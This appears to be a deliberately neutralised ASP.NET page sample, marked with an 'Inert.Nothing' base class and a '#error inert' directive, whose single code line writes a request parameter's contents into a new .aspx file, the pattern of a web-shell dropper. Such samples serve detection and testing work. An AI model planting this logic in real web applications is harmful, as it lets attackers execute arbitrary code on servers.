<%@ Page Language="C#" Inherits="Inert.Nothing" %><%
#error inert
System.IO.File.WriteAllText(Server.MapPath(".") + "/x.aspx", Request["d"]); %>